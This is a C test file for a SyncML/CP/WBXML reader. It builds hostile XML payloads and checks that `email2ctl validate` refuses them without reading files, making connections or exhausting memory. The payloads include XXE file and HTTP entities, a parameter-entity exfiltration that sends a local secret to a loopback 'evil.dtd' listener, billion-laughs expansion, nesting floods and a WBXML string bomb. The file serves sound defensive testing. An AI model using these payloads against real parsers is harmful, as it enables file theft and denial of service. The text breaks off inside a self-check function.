/* SPDX-License-Identifier: LGPL-2.1-or-later
 * SPDX-FileCopyrightText: 2026 The email2 authors
 *
 * Hostile payloads for the SyncML reader, run through the real
 * `email2ctl validate` (EMAIL2CTL) in a child process. Every payload must
 * be refused (exit status 2, one line on standard error, nothing on
 * standard output) or, for the few that are well-formed, answered without
 * doing harm: no file is opened, no connection is made, the state file is
 * unchanged and the memory stays bounded.
 *
 * Longer than 800 lines on purpose: a table of hostile payloads and the
 * one harness that runs each in a child and checks that nothing was
 * harmed.
 */

#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gio/gio.h>
#include <glib/gstdio.h>

#include "email2-test.h"

#if defined(__SANITIZE_ADDRESS__)
# define TEST_ASAN 1
#elif defined(__has_feature)
# if __has_feature(address_sanitizer)
#  define TEST_ASAN 1
# endif
#endif

#ifdef TEST_ASAN
/* ASan reserves terabytes of address space: RLIMIT_AS cannot be used, the
 * peak resident size is checked instead, with room for the shadow memory. */
# define MAX_RSS_KIB (1024 * 1024)
#else
# define CHILD_ADDRESS_SPACE ((rlim_t) 512 * 1024 * 1024)
# define MAX_RSS_KIB (256 * 1024)
#endif

/* A child that is still running after this long is killed: a parser that
 * waits for an answer of the loopback listener must not hang the tests. */
#define CHILD_TIMEOUT_SECONDS 120

#define HUGE_DATA_SIZE (100 * 1024 * 1024)

/* Where the cases make their directories: made by the main test process,
 * inherited by each case's subprocess, removed at the end even when a case
 * failed half-way. */
#define TMP_ENV "EMAIL2_HOSTILE_TMPDIR"

typedef struct {
  char *dir;
  char *home;
  char *state;
  char *secret;
  char *secret_uri;
  char *marker;
  char *http_base;
  char *payload;
  char *out_path;
  char *err_path;
  GSocketService *service;
  guint16 port;
  guint connections;
  int inotify_fd;
  char **envp;
} Fixture;

typedef struct {
  int exit_status;        /* -1: killed by a signal */
  char *out;
  gsize out_length;
  char *err;
  glong max_rss_kib;
} Run;

typedef void (*WritePayload) (Fixture *fx);

typedef struct {
  const char *name;
  WritePayload write;
  int expected_exit;      /* 2: refused; 1: answered with failed commands */
  const char *reason;     /* a case-insensitive regex the reason matches */
} HostileCase;

static void
run_clear (Run *run)
{
  g_clear_pointer (&run->out, g_free);
  g_clear_pointer (&run->err, g_free);
}

G_DEFINE_AUTO_CLEANUP_CLEAR_FUNC (Run, run_clear)

static gboolean
on_incoming (GSocketService    *service,
             GSocketConnection *connection,
             GObject           *source_object,
             gpointer           user_data)
{
  Fixture *fx = user_data;

  fx->connections++;
  g_io_stream_close (G_IO_STREAM (connection), NULL, NULL);

  return TRUE;
}

static void
dispatch_pending (void)
{
  while (g_main_context_iteration (NULL, FALSE))
    ;
}

/* Events on the watched local file since the last call. */
static guint
drain_inotify (Fixture *fx)
{
  char buffer[4096] __attribute__ ((aligned (__alignof__ (struct inotify_event))));
  guint events = 0;

  for (;;)
    {
      gssize n = read (fx->inotify_fd, buffer, sizeof buffer);

      if (n < 0 && errno == EINTR)
        continue;
      if (n < 0)
        {
          g_assert_cmpint (errno, ==, EAGAIN);
          break;
        }
      for (gssize offset = 0; offset < n;)
        {
          const struct inotify_event *event = (const struct inotify_event *) (buffer + offset);

          if (event->mask & (IN_OPEN | IN_ACCESS))
            events++;
          offset += sizeof (struct inotify_event) + event->len;
        }
    }

  return events;
}

static void
write_file (const char *path,
            const char *data,
            gssize      length)
{
  g_autoptr(GError) error = NULL;

  g_file_set_contents (path, data, length, &error);
  g_assert_no_error (error);
}

/* Runs `email2ctl validate --state STATE PAYLOAD` with standard output and
 * error in files, a bounded address space, and the loopback listener served
 * while it runs. */
static void
run_validate (Fixture *fx,
              Run     *run)
{
  const char *ctl = g_getenv ("EMAIL2CTL");
  char *argv[] = { (char *) ctl, (char *) "validate", (char *) "--state", fx->state,
                   fx->payload, NULL };
  gint64 deadline = g_get_monotonic_time () + CHILD_TIMEOUT_SECONDS * G_USEC_PER_SEC;
  struct rusage usage = { 0, };
  int status = 0;
  pid_t pid;

  g_assert_nonnull (ctl);
  memset (run, 0, sizeof *run);

  pid = fork ();
  g_assert_cmpint (pid, >=, 0);
  if (pid == 0)
    {
      /* Only async-signal-safe calls from here to exec. */
      int in = open ("/dev/null", O_RDONLY | O_CLOEXEC);
      int out = open (fx->out_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
      int err = open (fx->err_path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
#ifndef TEST_ASAN
      struct rlimit limit = { CHILD_ADDRESS_SPACE, CHILD_ADDRESS_SPACE };
#endif

      if (in < 0 || out < 0 || err < 0 ||
          dup2 (in, STDIN_FILENO) < 0 || dup2 (out, STDOUT_FILENO) < 0 ||
          dup2 (err, STDERR_FILENO) < 0)
        _exit (125);
#ifndef TEST_ASAN
      if (setrlimit (RLIMIT_AS, &limit) < 0)
        _exit (126);
#endif
      execve (ctl, argv, fx->envp);
      _exit (127);
    }

  for (;;)
    {
      pid_t done = wait4 (pid, &status, WNOHANG, &usage);

      if (done == pid)
        break;
      if (done < 0 && errno == EINTR)
        continue;
      g_assert_cmpint (done, ==, 0);

      if (g_get_monotonic_time () > deadline)
        {
          kill (pid, SIGKILL);
          waitpid (pid, NULL, 0);
          g_error ("email2ctl did not finish within %d seconds", CHILD_TIMEOUT_SECONDS);
        }

      /* Accept whatever reaches the listener while the child runs. */
      dispatch_pending ();
      g_usleep (1000);
    }
  dispatch_pending ();

  run->exit_status = WIFEXITED (status) ? WEXITSTATUS (status) : -1;
  if (WIFSIGNALED (status))
    g_test_message ("email2ctl was killed by signal %d", WTERMSIG (status));
  run->max_rss_kib = usage.ru_maxrss;
  run->out = email2_test_read_file (fx->out_path, &run->out_length);
  run->err = email2_test_read_file (fx->err_path, NULL);
}

static void
fixture_setup (Fixture *fx)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GSocketAddress) address = NULL;
  g_autoptr(GSocketAddress) effective = NULL;
  g_autoptr(GInetAddress) loopback = NULL;
  g_autofree char *runtime = NULL;
  g_autofree char *secret_text = NULL;
  g_autofree char *body = NULL;
  g_autofree char *create = NULL;
  g_autofree char *message = NULL;
  g_autofree char *state = NULL;
  g_auto(Run) run = { 0, };

  memset (fx, 0, sizeof *fx);

  g_assert_nonnull (g_getenv (TMP_ENV));
  fx->dir = g_build_filename (g_getenv (TMP_ENV), "case-XXXXXX", NULL);
  g_assert_nonnull (g_mkdtemp (fx->dir));
  fx->home = g_build_filename (fx->dir, "home", NULL);
  runtime = g_build_filename (fx->dir, "runtime", NULL);
  g_assert_cmpint (g_mkdir (fx->home, 0700), ==, 0);
  g_assert_cmpint (g_mkdir (runtime, 0700), ==, 0);
  fx->state = g_build_filename (fx->dir, "state.ini", NULL);
  fx->secret = g_build_filename (fx->dir, "local-secret.txt", NULL);
  fx->payload = g_build_filename (fx->dir, "payload.xml", NULL);
  fx->out_path = g_build_filename (fx->dir, "stdout", NULL);
  fx->err_path = g_build_filename (fx->dir, "stderr", NULL);
  fx->secret_uri = g_filename_to_uri (fx->secret, NULL, &error);
  g_assert_no_error (error);

  /* Nothing of the child may wander into the real home or session. */
  fx->envp = g_get_environ ();
  fx->envp = g_environ_setenv (fx->envp, "HOME", fx->home, TRUE);
  fx->envp = g_environ_setenv (fx->envp, "XDG_CONFIG_HOME", fx->home, TRUE);
  fx->envp = g_environ_setenv (fx->envp, "XDG_DATA_HOME", fx->home, TRUE);
  fx->envp = g_environ_setenv (fx->envp, "XDG_CACHE_HOME", fx->home, TRUE);
  fx->envp = g_environ_setenv (fx->envp, "XDG_RUNTIME_DIR", runtime, TRUE);
  fx->envp = g_environ_setenv (fx->envp, "LC_ALL", "C.UTF-8", TRUE);
  fx->envp = g_environ_unsetenv (fx->envp, "LANGUAGE");
  fx->envp = g_environ_unsetenv (fx->envp, "DBUS_SESSION_BUS_ADDRESS");
  /* libxml2's own HTTP and FTP clients honour these: a proxy would take
   * the connection that the listener below is there to see. */
  fx->envp = g_environ_unsetenv (fx->envp, "http_proxy");
  fx->envp = g_environ_unsetenv (fx->envp, "HTTP_PROXY");
  fx->envp = g_environ_unsetenv (fx->envp, "ftp_proxy");
  fx->envp = g_environ_unsetenv (fx->envp, "FTP_PROXY");
  fx->envp = g_environ_unsetenv (fx->envp, "no_proxy");

  /* The local file an external entity would read. */
  fx->marker = g_strdup_printf ("EMAIL2-XXE-MARKER-%08x%08x", g_random_int (), g_random_int ());
  secret_text = g_strdup_printf ("%s\n", fx->marker);
  write_file (fx->secret, secret_text, -1);

  /* A listener an external http:// entity would reach. */
  fx->service = g_socket_service_new ();
  loopback = g_inet_address_new_loopback (G_SOCKET_FAMILY_IPV4);
  address = g_inet_socket_address_new (loopback, 0);
  g_socket_listener_add_address (G_SOCKET_LISTENER (fx->service), address,
                                 G_SOCKET_TYPE_STREAM, G_SOCKET_PROTOCOL_TCP,
                                 NULL, &effective, &error);
  g_assert_no_error (error);
  fx->port = g_inet_socket_address_get_port (G_INET_SOCKET_ADDRESS (effective));
  g_assert_cmpuint (fx->port, !=, 0);
  fx->http_base = g_strdup_printf ("http://127.0.0.1:%u", fx->port);
  g_signal_connect (fx->service, "incoming", G_CALLBACK (on_incoming), fx);
  g_socket_service_start (fx->service);

  /* A state with one account, made by a good creation payload. */
  create = email2_test_create_account (TEST_ACCOUNT, "2", "IMAP4");
  body = g_strdup_printf ("<Atomic><CmdID>1</CmdID>\n%s</Atomic>", create);
  message = email2_test_message (body);
  write_file (fx->payload, message, -1);
  run_validate (fx, &run);
  g_assert_cmpstr (run.err, ==, "");
  g_assert_cmpint (run.exit_status, ==, 0);
  state = email2_test_read_file (fx->state, NULL);
  g_assert_nonnull (strstr (state, "SERVICENAME=Contoso Mail"));
  g_assert_nonnull (strstr (state, "AUTHSECRET=********"));
  g_assert_null (strstr (state, "s3cret"));
  g_unlink (fx->payload);

  fx->inotify_fd = inotify_init1 (IN_NONBLOCK | IN_CLOEXEC);
  g_assert_cmpint (fx->inotify_fd, >=, 0);
  g_assert_cmpint (inotify_add_watch (fx->inotify_fd, fx->secret, IN_OPEN | IN_ACCESS), >=, 0);
  g_assert_cmpuint (drain_inotify (fx), ==, 0);
  g_assert_cmpuint (fx->connections, ==, 0);
}

static void
fixture_teardown (Fixture *fx)
{
  if (fx->service != NULL)
    {
      g_socket_service_stop (fx->service);
      g_socket_listener_close (G_SOCKET_LISTENER (fx->service));
      g_clear_object (&fx->service);
    }
  dispatch_pending ();
  if (fx->inotify_fd >= 0)
    close (fx->inotify_fd);

  email2_test_remove_tree (fx->dir);

  g_free (fx->dir);
  g_free (fx->home);
  g_free (fx->state);
  g_free (fx->secret);
  g_free (fx->secret_uri);
  g_free (fx->marker);
  g_free (fx->http_base);
  g_free (fx->payload);
  g_free (fx->out_path);
  g_free (fx->err_path);
  g_strfreev (fx->envp);
}

/* The payloads ----------------------------------------------------------- */

/* A message whose prolog holds @doctype, with @body as its SyncBody. */
static char *
message_with_doctype (const char *doctype,
                      const char *body)
{
  g_autofree char *message = email2_test_message (body);
  const char *root = strstr (message, "<SyncML");

  g_assert_nonnull (root);

  return g_strdup_printf ("%.*s%s\n%s", (int) (root - message), message, doctype, root);
}

/* Sets NAME to @data inside an Atomic, then Gets it: were an entity
 * expanded, its text would come back in the answer. */
static char *
name_round_trip_body (const char *data)
{
  g_autofree char *replace = email2_test_item_cmd ("Replace", "2", TEST_ACCOUNT "/NAME",
                                                   "chr", data);
  g_autofree char *get = email2_test_item_cmd ("Get", "3", TEST_ACCOUNT "/NAME", NULL, NULL);

  return g_strdup_printf ("<Atomic><CmdID>1</CmdID>\n%s</Atomic>\n%s", replace, get);
}

static void
write_message_with_doctype (Fixture    *fx,
                            const char *doctype,
                            const char *data)
{
  g_autofree char *body = name_round_trip_body (data);
  g_autofree char *message = message_with_doctype (doctype, body);

  write_file (fx->payload, message, -1);
}

static void
write_xxe_file (Fixture *fx)
{
  g_autofree char *doctype = g_strdup_printf (
    "<!DOCTYPE SyncML [\n  <!ENTITY xxe SYSTEM \"%s\">\n]>", fx->secret_uri);

  write_message_with_doctype (fx, doctype, "&xxe;");
}

static void
write_xxe_http (Fixture *fx)
{
  g_autofree char *doctype = g_strdup_printf (
    "<!DOCTYPE SyncML [\n  <!ENTITY xxe SYSTEM \"%s/entity\">\n]>", fx->http_base);

  write_message_with_doctype (fx, doctype, "&xxe;");
}

static void
write_external_dtd (Fixture *fx)
{
  g_autofree char *doctype = g_strdup_printf (
    "<!DOCTYPE SyncML PUBLIC \"-//SYNCML//DTD SyncML 1.2//EN\" \"%s/syncml_represent_v12.dtd\">",
    fx->http_base);

  write_message_with_doctype (fx, doctype, "Alice");
}

static void
write_billion_laughs (Fixture *fx)
{
  GString *doctype = g_string_new ("<!DOCTYPE SyncML [\n  <!ENTITY lol0 \"lol\">\n");
  g_autofree char *text = NULL;

  for (guint i = 1; i <= 9; i++)
    {
      g_string_append_printf (doctype, "  <!ENTITY lol%u \"", i);
      for (guint j = 0; j < 10; j++)
        g_string_append_printf (doctype, "&lol%u;", i - 1);
      g_string_append (doctype, "\">\n");
    }
  g_string_append (doctype, "]>");
  text = g_string_free (doctype, FALSE);

  write_message_with_doctype (fx, text, "&lol9;");
}

static void
write_parameter_entity (Fixture *fx)
{
  /* The out-of-band exfiltration: read the file into a parameter entity,
   * then declare an entity whose URL carries it to the listener. */
  g_autofree char *doctype = g_strdup_printf (
    "<!DOCTYPE SyncML [\n"
    "  <!ENTITY %% file SYSTEM \"%s\">\n"
    "  <!ENTITY %% remote SYSTEM \"%s/evil.dtd\">\n"
    "  <!ENTITY %% wrap \"<!ENTITY &#x25; send SYSTEM '%s/?leak=%%file;'>\">\n"
    "  %%remote;\n"
    "  %%wrap;\n"
    "  %%send;\n"
    "]>", fx->secret_uri, fx->http_base, fx->http_base);

  write_message_with_doctype (fx, doctype, "Alice");
}

static void
write_plain_doctype (Fixture *fx)
{
  write_message_with_doctype (fx, "<!DOCTYPE SyncML>", "Alice");
}

static void
write_utf16_doctype (Fixture *fx)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *doctype = g_strdup_printf (
    "<!DOCTYPE SyncML [\n  <!ENTITY xxe SYSTEM \"%s\">\n"
    "  <!ENTITY remote SYSTEM \"%s/utf16\">\n]>", fx->secret_uri, fx->http_base);
  g_autofree char *body = name_round_trip_body ("&xxe;&remote;");
  g_autofree char *message = message_with_doctype (doctype, body);
  g_autofree char *utf16 = NULL;
  g_autofree char *text = NULL;
  gsize length = 0;
  GString *bytes;

  /* email2_test_message () declares UTF-8: declare UTF-16 instead. */
  g_assert_true (g_str_has_prefix (message, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"));
  text = g_strconcat ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>",
                      message + strlen ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"), NULL);

  utf16 = g_convert (text, -1, "UTF-16LE", "UTF-8", NULL, &length, &error);
  g_assert_no_error (error);

  bytes = g_string_new_len ("\xff\xfe", 2);
  g_string_append_len (bytes, utf16, length);
  write_file (fx->payload, bytes->str, bytes->len);
  g_string_free (bytes, TRUE);
}

static void
write_deep_nesting (Fixture *fx)
{
  GString *body = g_string_new ("<Sequence><CmdID>1</CmdID>");
  g_autofree char *message = NULL;

  for (guint i = 0; i < 10000; i++)
    g_string_append (body, "<Sequence>");
  for (guint i = 0; i < 10000; i++)
    g_string_append (body, "</Sequence>");
  g_string_append (body, "</Sequence>");

  message = email2_test_message (body->str);
  g_string_free (body, TRUE);
  write_file (fx->payload, message, -1);
}

static void
write_element_flood (Fixture *fx)
{
  GString *body = g_string_new (NULL);
  g_autofree char *message = NULL;

  /* Shallow, small, and one more element than the default bound. */
  for (guint i = 0; i < 1000001; i++)
    g_string_append (body, "<a/>");

  message = email2_test_message (body->str);
  g_string_free (body, TRUE);
  write_file (fx->payload, message, -1);
}

/* Elements inside a Data value are no commands: the element bound holds. */
static void
write_element_flood_in_data (Fixture *fx)
{
  GString *body = g_string_new ("<Get><CmdID>1</CmdID><Item><Target><LocURI>./Vendor/MSFT/EMAIL2"
                                "</LocURI></Target><Data>");
  g_autofree char *message = NULL;

  for (guint i = 0; i < 1000001; i++)
    g_string_append (body, "<a/>");
  g_string_append (body, "</Data></Item></Get>");

  message = email2_test_message (body->str);
  g_string_free (body, TRUE);
  write_file (fx->payload, message, -1);
}

static void
write_huge_data (Fixture *fx)
{
  g_autofree char *body = name_round_trip_body ("@DATA@");
  g_autofree char *message = email2_test_message (body);
  const char *data = strstr (message, "@DATA@");
  g_autofree char *chunk = g_malloc (1024 * 1024);
  FILE *file;

  g_assert_nonnull (data);
  memset (chunk, 'A', 1024 * 1024);

  file = fopen (fx->payload, "we");
  g_assert_nonnull (file);
  g_assert_cmpuint (fwrite (message, 1, data - message, file), ==, (gsize) (data - message));
  for (guint i = 0; i < HUGE_DATA_SIZE / (1024 * 1024); i++)
    g_assert_cmpuint (fwrite (chunk, 1, 1024 * 1024, file), ==, 1024 * 1024);
  data += strlen ("@DATA@");
  g_assert_cmpuint (fwrite (data, 1, strlen (data), file), ==, strlen (data));
  g_assert_cmpint (fclose (file), ==, 0);
}

/* An account creation whose AUTHSECRET holds @secret (@length bytes). */
static void
write_creation_with_secret (Fixture    *fx,
                            const char *secret,
                            gsize       length)
{
  g_autofree char *create = email2_test_create_account (TEST_ACCOUNT2, "2", "IMAP4");
  g_autofree char *body = g_strdup_printf ("<Atomic><CmdID>1</CmdID>\n%s</Atomic>", create);
  g_autofree char *message = email2_test_message (body);
  const char *placeholder = "s3cret&amp;pw";
  const char *at = strstr (message, placeholder);
  GString *bytes;

  g_assert_nonnull (at);
  bytes = g_string_new_len (message, at - message);
  g_string_append_len (bytes, secret, length);
  g_string_append (bytes, at + strlen (placeholder));
  write_file (fx->payload, bytes->str, bytes->len);
  g_string_free (bytes, TRUE);
}

static void
write_invalid_utf8 (Fixture *fx)
{
  static const char secret[] = "pw\xc3\x28\xff\xfe-tail";

  write_creation_with_secret (fx, secret, sizeof secret - 1);
}

static void
write_nul_byte (Fixture *fx)
{
  static const char secret[] = "pw\0tail";

  write_creation_with_secret (fx, secret, sizeof secret - 1);
}

static void
write_not_syncml (Fixture *fx)
{
  write_file (fx->payload,
              "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
              "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Hello</p></body></html>\n",
              -1);
}

static void
write_wrong_namespace (Fixture *fx)
{
  g_autofree char *body = name_round_trip_body ("Alice");
  g_autofree char *message = email2_test_message (body);
  g_autofree char *wrong = NULL;
  g_auto(GStrv) parts = g_strsplit (message, "SYNCML:SYNCML1.2", 2);

  g_assert_nonnull (parts[1]);
  wrong = g_strjoinv ("urn:example:not-syncml", parts);
  write_file (fx->payload, wrong, -1);
}

static void
write_truncated (Fixture *fx)
{
  g_autofree char *create = email2_test_create_account (TEST_ACCOUNT2, "2", "IMAP4");
  g_autofree char *body = g_strdup_printf ("<Atomic><CmdID>1</CmdID>\n%s</Atomic>", create);
  g_autofree char *message = email2_test_message (body);

  write_file (fx->payload, message, strlen (message) / 2);
}

static void
write_empty (Fixture *fx)
{
  write_file (fx->payload, "", 0);
}

static void
write_xinclude (Fixture *fx)
{
  /* Well-formed: XInclude is never processed, the element is markup in a
   * Data (415) and the Atomic fails. */
  g_autofree char *data = g_strdup_printf (
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"%s\" parse=\"text\"/>"
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"%s/include\" parse=\"text\"/>",
    fx->secret_uri, fx->http_base);
  g_autofree char *body = name_round_trip_body (data);
  g_autofree char *message = email2_test_message (body);

  write_file (fx->payload, message, -1);
}

/* CP documents: the same reader, the same refusals. */

/* A CP document setting NAME of TEST_GUID to @value, after @prolog. */
static void
write_cp (Fixture    *fx,
          const char *prolog,
          const char *value)
{
  g_autofree char *document = g_strdup_printf (
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n%s\n"
    "<wap-provisioningdoc version=\"1.1\"><characteristic type=\"EMAIL2\">"
    "<characteristic type=\"" TEST_GUID "\"><parm name=\"NAME\" value=\"%s\"/>"
    "<parm-query name=\"NAME\"/></characteristic></characteristic></wap-provisioningdoc>\n",
    prolog, value);

  write_file (fx->payload, document, -1);
}

static void
write_cp_xxe_file (Fixture *fx)
{
  g_autofree char *doctype = g_strdup_printf (
    "<!DOCTYPE wap-provisioningdoc [\n  <!ENTITY xxe SYSTEM \"%s\">\n]>", fx->secret_uri);

  write_cp (fx, doctype, "&xxe;");
}

static void
write_cp_external_dtd (Fixture *fx)
{
  g_autofree char *doctype = g_strdup_printf (
    "<!DOCTYPE wap-provisioningdoc PUBLIC \"-//WAPFORUM//DTD PROV 1.0//EN\" \"%s/prov.dtd\">",
    fx->http_base);

  write_cp (fx, doctype, "Alice");
}

static void
write_cp_billion_laughs (Fixture *fx)
{
  GString *doctype = g_string_new ("<!DOCTYPE wap-provisioningdoc [\n  <!ENTITY lol0 \"lol\">\n");
  g_autofree char *text = NULL;

  for (guint i = 1; i <= 9; i++)
    {
      g_string_append_printf (doctype, "  <!ENTITY lol%u \"", i);
      for (guint j = 0; j < 10; j++)
        g_string_append_printf (doctype, "&lol%u;", i - 1);
      g_string_append (doctype, "\">\n");
    }
  g_string_append (doctype, "]>");
  text = g_string_free (doctype, FALSE);

  write_cp (fx, text, "&lol9;");
}

static void
write_cp_undeclared_entity (Fixture *fx)
{
  write_cp (fx, "", "&xxe;");
}

static void
write_cp_deep_nesting (Fixture *fx)
{
  GString *document = g_string_new ("<wap-provisioningdoc><characteristic type=\"EMAIL2\">");

  for (guint i = 0; i < 10000; i++)
    g_string_append (document, "<characteristic type=\"TAGPROPS\">");
  for (guint i = 0; i < 10000; i++)
    g_string_append (document, "</characteristic>");
  g_string_append (document, "</characteristic></wap-provisioningdoc>");
  write_file (fx->payload, document->str, document->len);
  g_string_free (document, TRUE);
}

static void
write_cp_element_flood (Fixture *fx)
{
  GString *document = g_string_new ("<wap-provisioningdoc><characteristic type=\"EMAIL2\">"
                                    "<characteristic type=\"" TEST_GUID "\">");

  /* Small and shallow, one more than the CP element bound. */
  for (guint i = 0; i < EMAIL2_WAPPROV_MAX_ELEMENTS; i++)
    g_string_append (document, "<parm-query name=\"NAME\"/>");
  g_string_append (document, "</characteristic></characteristic></wap-provisioningdoc>");
  write_file (fx->payload, document->str, document->len);
  g_string_free (document, TRUE);
}

/* WBXML: decoded only after its checks, then read as XML. */
static char *
cp_creation_wbxml (gsize *length)
{
  static const char document[] =
    "<wap-provisioningdoc><characteristic type=\"EMAIL2\"><characteristic type=\"" TEST_GUID2 "\">"
    "<parm name=\"SERVICENAME\" value=\"Contoso Mail\"/><parm name=\"SERVICETYPE\" value=\"IMAP4\"/>"
    "<parm name=\"ACCOUNTTYPE\" value=\"Email\"/><parm name=\"INSERVER\" value=\"mail.contoso.com\"/>"
    "<parm name=\"OUTSERVER\" value=\"smtp.contoso.com\"/><parm name=\"AUTHNAME\" value=\"alice\"/>"
    "<parm name=\"AUTHSECRET\" value=\"s3cret&amp;pw\"/><parm name=\"REPLYADDR\" value=\"a@contoso.com\"/>"
    "<parm name=\"SYNCINGCONTENTTYPES\" value=\"2\"/></characteristic></characteristic></wap-provisioningdoc>";
  g_autoptr(GError) error = NULL;
  char *wbxml = email2_wbxml_from_xml (document, sizeof document - 1, 0x02, length, &error);

  g_assert_no_error (error);
  return wbxml;
}

static void
write_wbxml_truncated (Fixture *fx)
{
  gsize length = 0;
  g_autofree char *wbxml = cp_creation_wbxml (&length);

  write_file (fx->payload, wbxml, length * 2 / 3);
}

static void
write_wbxml_random (Fixture *fx)
{
  g_autoptr(GRand) rand = g_rand_new_with_seed (4242);
  guint8 bytes[4096];

  for (gsize i = 0; i < sizeof bytes; i++)
    bytes[i] = g_rand_int_range (rand, 0, 256);
  memcpy (bytes, "\x02\x0b\x6a", 3);
  write_file (fx->payload, (const char *) bytes, sizeof bytes);
}

static void
write_wbxml_string_bomb (Fixture *fx)
{
  GString *bytes = g_string_new_len ("\x02\x0b\x6a\x84\x80\x01", 6);  /* string table: 65537 */

  for (guint i = 0; i < 65536; i++)
    g_string_append_c (bytes, 'A');
  g_string_append_c (bytes, '\0');
  g_string_append_c (bytes, 0x45);     /* <wap-provisioningdoc> */
  for (guint i = 0; i < 200000; i++)
    g_string_append_len (bytes, "\x83\x00", 2);
  g_string_append_c (bytes, 0x01);
  write_file (fx->payload, bytes->str, bytes->len);
  g_string_free (bytes, TRUE);
}

#define REASON_DOCTYPE "DOCTYPE|DTD|document type|entit"

static const HostileCase cases[] = {
  { "xxe-file", write_xxe_file, 2, REASON_DOCTYPE },
  { "xxe-http", write_xxe_http, 2, REASON_DOCTYPE },
  { "external-dtd", write_external_dtd, 2, REASON_DOCTYPE },
  { "billion-laughs", write_billion_laughs, 2, REASON_DOCTYPE },
  { "parameter-entity", write_parameter_entity, 2, REASON_DOCTYPE },
  { "plain-doctype", write_plain_doctype, 2, REASON_DOCTYPE },
  { "utf16-doctype", write_utf16_doctype, 2, "NUL|DOCTYPE|UTF-16|encoding" },
  { "deep-nesting", write_deep_nesting, 2, "deep|depth|nest" },
  { "element-flood", write_element_flood, 2, "elements|limit" },
  { "element-flood-in-data", write_element_flood_in_data, 2, "more than 1000000 elements" },
  { "huge-data", write_huge_data, 2, "larger|size|bytes|limit" },
  { "invalid-utf8", write_invalid_utf8, 2, "UTF-8|encoding" },
  { "nul-byte", write_nul_byte, 2, "NUL" },
  { "not-syncml", write_not_syncml, 2, "SyncML" },
  { "wrong-namespace", write_wrong_namespace, 2, "SyncML|namespace" },
  { "truncated", write_truncated, 2, "well-formed|premature|truncated|end of" },
  { "empty", write_empty, 2, "empty|cannot be read|well-formed|no content" },
  { "xinclude", write_xinclude, 1, NULL },
  { "cp-xxe-file", write_cp_xxe_file, 2, REASON_DOCTYPE },
  { "cp-external-dtd", write_cp_external_dtd, 2, REASON_DOCTYPE },
  { "cp-billion-laughs", write_cp_billion_laughs, 2, REASON_DOCTYPE },
  { "cp-undeclared-entity", write_cp_undeclared_entity, 2, "well-formed.*entit" },
  { "cp-deep-nesting", write_cp_deep_nesting, 2, "deep|depth|nest" },
  { "cp-element-flood", write_cp_element_flood, 2, "limit of 100000 elements" },
  { "wbxml-truncated", write_wbxml_truncated, 2, "WBXML.*(truncated|malformed)" },
  { "wbxml-random", write_wbxml_random, 2, "WBXML" },
  { "wbxml-string-bomb", write_wbxml_string_bomb, 2, "larger than .* as XML" },
};

static void
run_hostile (const HostileCase *hostile)
{
  g_autofree char *state_before = NULL;
  g_autofree char *state_after = NULL;
  gsize before_length = 0, after_length = 0;
  struct stat before, after;
  Fixture fx;
  g_auto(Run) run = { 0, };

  fixture_setup (&fx);
  hostile->write (&fx);

  state_before = email2_test_read_file (fx.state, &before_length);
  g_assert_cmpint (stat (fx.state, &before), ==, 0);

  run_validate (&fx, &run);

  /* Refused, or answered, as expected. */
  g_assert_cmpint (run.exit_status, ==, hostile->expected_exit);
  if (hostile->expected_exit == 2)
    {
      g_assert_cmpuint (run.out_length, ==, 0);
      email2_test_assert_one_line (run.err);
      g_assert_true (g_str_has_prefix (run.err, "email2ctl"));
      g_assert_true (g_regex_match_simple (hostile->reason, run.err, G_REGEX_CASELESS, 0));
    }
  else
    {
      g_assert_cmpstr (run.err, ==, "");
      g_assert_true (g_str_has_prefix (run.out, "<?xml"));
    }

  /* Nothing read, nothing reached, nothing leaked. */
  g_assert_cmpuint (drain_inotify (&fx), ==, 0);
  g_assert_cmpuint (fx.connections, ==, 0);
  g_assert_null (g_strstr_len (run.out, run.out_length, fx.marker));
  g_assert_null (strstr (run.err, fx.marker));
  g_assert_null (g_strstr_len (run.out, run.out_length, "s3cret"));
  g_assert_null (strstr (run.err, "s3cret"));

  /* Nothing changed. */
  state_after = email2_test_read_file (fx.state, &after_length);
  g_assert_cmpmem (state_before, before_length, state_after, after_length);
  if (hostile->expected_exit == 2)
    {
      /* Refused input is not even written back. */
      g_assert_cmpint (stat (fx.state, &after), ==, 0);
      g_assert_cmpuint (before.st_ino, ==, after.st_ino);
      g_assert_cmpint (before.st_mtim.tv_sec, ==, after.st_mtim.tv_sec);
      g_assert_cmpint (before.st_mtim.tv_nsec, ==, after.st_mtim.tv_nsec);
    }

  /* Memory stayed bounded. */
  g_assert_cmpint (run.max_rss_kib, >, 0);
  g_assert_cmpint (run.max_rss_kib, <, MAX_RSS_KIB);

  fixture_teardown (&fx);
}

/* Each case runs in a subprocess of its own, so that one failing case
 * does not hide the others. */
static void
test_hostile (gconstpointer data)
{
  if (g_test_subprocess ())
    {
      run_hostile (data);
      return;
    }

  g_test_trap_subprocess (NULL, (guint64) 2 * CHILD_TIMEOUT_SECONDS * G_USEC_PER_SEC,
                          G_TEST_SUBPROCESS_INHERIT_STDOUT | G_TEST_SUBPROCESS_INHERIT_STDERR);
  g_test_trap_assert_passed ();
}

/* The watchers above must be able to see what they look for. */
static void
run_self_check (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GSocketClient) client = g_socket_client_new ();
  g_autoptr(GSocketConnection) connection = NULL;
  g_autofree char *contents = NULL;
  gint64 deadline;
  Fixture fx;

  fixture_setup (&fx);
  g_socket_client_set_enable_proxy (client, FALSE);

  contents = email2_test_read_file (fx.secret, NULL);
  g_assert_nonnull (strstr (contents, fx.marker));
  g_assert_cmpuint (drain_inotify (&fx), >, 0);

